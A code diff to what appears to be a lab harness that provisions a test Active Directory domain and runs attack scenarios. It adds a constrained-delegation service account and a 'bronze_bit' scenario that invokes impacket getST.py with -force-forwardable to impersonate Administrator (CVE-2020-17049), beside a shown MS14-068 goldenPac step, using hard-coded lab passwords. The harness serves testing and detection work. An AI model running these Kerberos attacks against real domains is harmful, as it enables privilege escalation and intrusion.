@@ -84,6 +84,10 @@ USERS = [
     ("erin", "Er1n!Rainy2024", [], {}),
     ("svc_sql", "SqlSvc!2024", [], {"spn": "MSSQLSvc/sql01.contoso.local:1433"}),
     ("legacy.app", "Legacy!2024", [], {"no_preauth": True}),
+    # constrained delegation to the DC's file service, Kerberos only (no protocol transition:
+    # its S4U2self tickets are not forwardable, so S4U2proxy needs a real user's ticket)
+    ("svc_web", "WebSvc!2024", [], {"spn": "HTTP/web01.contoso.local",
+                                    "delegate_to": "cifs/dc01.contoso.local"}),
     ("backup.admin", "H0neyT0ken!2024", [], {"honeytoken": True}),
 ]
 COMPUTERS = [("WS1", "Ws1MachinePass!2024"), ("WS2", "Ws2MachinePass!2024")]
@@ -361,6 +365,11 @@ def provision() -> None:
                 f"dn: CN={name},CN=Users,{BASE_DN}\nchangetype: modify\n"
                 "replace: userAccountControl\n"
                 f"userAccountControl: {0x400000 | 0x200 | 0x10000}\n"
+            )
+        if extra.get("delegate_to"):
+            ldbmodify(
+                f"dn: CN={name},CN=Users,{BASE_DN}\nchangetype: modify\n"
+                f"add: msDS-AllowedToDelegateTo\nmsDS-AllowedToDelegateTo: {extra['delegate_to']}\n"
             )
         if extra.get("honeytoken"):
             ldbmodify(
@@ -1714,6 +1723,37 @@ def sc_forged_pac(s):
         "--password",
         PW["erin"],
         desc="goldenPac.py contoso.local/erin@dc01.contoso.local (MS14-068)",
+    )
+
+
+@scenario(
+    "bronze_bit",
+    expected="2048",
+    key_entities="svc_web;Administrator;WS1;10.77.0.21;DC01",
+    notes="Bronze Bit (CVE-2020-17049) from WS1 with impacket getST.py -force-forwardable and "
+    "the password of svc_web (SPN HTTP/web01.contoso.local, constrained delegation to "
+    "cifs/dc01.contoso.local, Kerberos only: no protocol transition): TGT for svc_web, "
+    "S4U2self for Administrator (the KDC's ticket is not forwardable), the ticket decrypted "
+    "with svc_web's key, the forwardable flag set and re-encrypted, then S4U2proxy "
+    "(cname-in-addl-tkt) for cifs/dc01.contoso.local with the tampered ticket. Samba 4.17 "
+    "refuses it with KRB_AP_ERR_BAD_INTEGRITY (it checks the PAC ticket signature: the CVE "
+    "fix); the same S4U2proxy without the flag forced gets KDC_ERR_BADOPTION.",
+)
+def sc_bronze_bit(s):
+    step(
+        s,
+        "dcw-ws1",
+        "bronze_bit",
+        "--user",
+        "svc_web",
+        "--password",
+        PW["svc_web"],
+        "--impersonate",
+        "Administrator",
+        "--spns",
+        f"cifs/dc01.{DNS_DOMAIN}",
+        desc="getST.py -spn cifs/dc01.contoso.local -impersonate Administrator "
+        "-force-forwardable contoso.local/svc_web",
     )
 
 
